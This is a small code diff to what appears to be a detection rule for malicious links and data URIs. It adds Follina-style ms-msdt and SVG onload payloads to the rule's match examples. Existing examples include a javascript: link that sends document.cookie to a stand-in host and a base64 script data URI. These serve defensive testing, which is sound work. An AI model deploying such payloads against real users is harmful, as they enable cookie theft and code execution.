@@ -26,6 +26,8 @@ export default defineRule({
     /\bdata:image\/svg\+xml[^\s"')]{0,80}(?:<script|%3cscript|onload)/,
   ],
   match: [
+    'Open ms-msdt:/id PCWDiagnostic',
+    'data:image/svg+xml,<svg%20onload=alert(1)>',
     '[Open](javascript:fetch("https://drop.example/"+document.cookie))',
     'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
   ],
